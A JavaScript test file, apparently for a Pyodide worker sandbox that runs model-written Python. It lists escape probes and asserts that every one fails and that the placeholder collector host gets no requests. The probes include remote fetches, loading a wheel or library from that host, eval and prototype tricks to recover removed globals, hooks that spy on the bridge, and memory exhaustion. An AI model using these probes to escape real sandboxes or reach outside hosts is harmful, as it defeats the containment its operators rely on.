// What model-written code may try from inside. Nothing may reach another host, and the kernel must live.
import assert from "node:assert/strict";
import { test } from "./harness.mjs";

// Each must end in an error of the named class, or in the named value.
const PROBES = {
  "js.fetch": ["import js; await js.fetch('EVIL/fetch')", "JsException|TypeError"],
  "the prototype's fetch": [
    "import js; js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self)).fetch",
    "AttributeError",
  ],
  "deleting the shim": ["import js; del js.fetch", "."],
  pyfetch: ["from pyodide.http import pyfetch; await pyfetch('EVIL/pyfetch')", "."],
  open_url: ["from pyodide.http import open_url; open_url('EVIL/open_url')", "."],
  urllib: ["import urllib.request; urllib.request.urlopen('EVIL/urllib', timeout=2)", "URLError|OSError"],
  socket: ["import socket; socket.create_connection(('127.0.0.1', PORT), 2)", "OSError|Error"],
  "loadPackage from a URL": [
    "import pyodide_js; await pyodide_js.loadPackage('EVIL/evil-1.0-py3-none-any.whl'); import evil",
    ".",
  ],
  XMLHttpRequest: ["import js; js.XMLHttpRequest", "AttributeError"],
  WebSocket: ["import js; js.WebSocket.new('ws://127.0.0.1:PORT/ws')", "AttributeError"],
  EventSource: ["import js; js.EventSource", "AttributeError"],
  WebTransport: ["import js; js.WebTransport", "AttributeError"],
  importScripts: ["import js; js.importScripts('EVIL/s.js')", "AttributeError"],
  Worker: ["import js; js.Worker.new('EVIL/w.js')", "AttributeError"],
  "a worker from a blob": ["import js; js.URL.createObjectURL(js.Blob.new([]))", "AttributeError"],
  "js.eval": ["import js; js.eval('1')", "JsException|EvalError"],
  run_js: ["from pyodide.code import run_js; run_js('1')", "JsException|EvalError"],
  "a function constructor": [
    "import js; js.Object.getPrototypeOf(js.Object.getPrototypeOf).constructor('return 1')()",
    ".",
  ],
  "setTimeout with a text": [
    "import js, asyncio; js.self.zz = 0; js.setTimeout('self.zz = 1', 0); await asyncio.sleep(0.05); zz = js.self.zz; del js.self.zz; assert zz == 1",
    "AssertionError|JsException",
  ],
  indexedDB: ["import js; js.indexedDB", "AttributeError"],
  caches: ["import js; js.caches", "AttributeError"],
  BroadcastChannel: ["import js; js.BroadcastChannel.new('x')", "AttributeError"],
  "the page": ["import js; js.parent.document", "AttributeError"],
  "the top window": ["import js; js.top", "AttributeError"],
  navigator: ["import js; js.navigator", "AttributeError"],
  "the prototype's postMessage": ["import js; js.Object.getPrototypeOf(js.self).postMessage", "AttributeError"],
  "self.close": ["import js; js.self.close()", "AttributeError"],
  FontFace: ["import js; js.FontFace.new('x', 'url(EVIL/f)')", "AttributeError"],
  "a library from a URL": ["import pyodide_js; pyodide_js._module.loadDynamicLibrary('EVIL/x.so')", "."],
};

test("no probe gets out, and the kernel survives them all", async ({ isolated, server }) => {
  await isolated.kernel();
  server.hits.length = 0;
  const port = new URL(server.collector).port;
  for (const [name, [code, expected]] of Object.entries(PROBES)) {
    const run = await isolated.fresh(code.replaceAll("EVIL", server.collector).replaceAll("PORT", port));
    assert.equal(run.status, "error", `${name} succeeded with ${JSON.stringify(run.result)}`);
    assert.match(run.ename ?? "", new RegExp(`^(${expected})`), `${name}: ${run.ename}: ${run.evalue}`);
  }
  assert.equal((await isolated.fresh("1 + 1")).result, 2);
  assert.deepEqual(server.hits, []);
});

test("after boot the worker's globals are on the allow-list, on every prototype", async ({ isolated }) => {
  const info = await isolated.kernel();
  // Two numbers that can't be taken away, where the browser has them: Chromium.
  const numbers = await isolated.evaluate(() => ["PERSISTENT", "TEMPORARY"].filter((name) => name in globalThis));
  assert.deepEqual(info.left.sort(), numbers);
  const run = await isolated.fresh(
    "import js\nnames, o = set(), js.self\nwhile not js.Object.hasOwn(o, 'hasOwnProperty'):\n" +
      "  names |= {k for k in js.Reflect.ownKeys(o) if isinstance(k, str)}\n  o = js.Object.getPrototypeOf(o)\n" +
      "sorted(n for n in names if getattr(js.self, n, None) is not None)",
  );
  const allowed = new Set(
    (await isolated.evaluate(async () => (await fetch("sandbox/lockdown.js")).text()))
      .match(/const KEEP = new Set\(\s*`([^`]+)`/)[1]
      .split(/\s+/),
  );
  const extra = run.result.filter((name) => !allowed.has(name) && !["PERSISTENT", "TEMPORARY"].includes(name));
  assert.ok(run.result.length > 50, JSON.stringify(run));
  assert.deepEqual(extra, []);
});

test("hooks on the language's own tools see nothing of the bridge", async ({ isolated }) => {
  await isolated.fresh("import js\nfrom pyodide.ffi import create_proxy\nseen = []\nold = js.JSON.stringify");
  const hooks = {
    "js.JSON.stringify = create_proxy(lambda *a: (seen.append(1), old(*a))[1])": "js.JSON.stringify = old",
    "js.TextEncoder.prototype.encode = create_proxy(lambda *a: seen.append(1))": "del js.TextEncoder.prototype.encode",
    "js.Object.prototype.toJSON = create_proxy(lambda *a: seen.append(1))": "del js.Object.prototype.toJSON",
  };
  for (const [hook, undo] of Object.entries(hooks)) {
    const run = await isolated.run(`${hook}\nprint('y' * 40000)\ndisplay(1)\n${undo}\nseen`);
    assert.deepEqual(run.result, [], hook);
    assert.equal(run.stdout.length, 40001, hook);
  }
});

test("the memory maximum holds", async ({ plain }) => {
  const run = await plain.fresh(
    "blocks, n = [], 0\ntry:\n  while True: blocks.append(bytearray(64 * 2**20)); n += 64\nexcept MemoryError: pass\nblocks = None\nn",
  );
  assert.ok(run.result > 100 && run.result < 512, `${run.result} MB`);
  assert.equal((await plain.run("1 + 1")).result, 2);
});
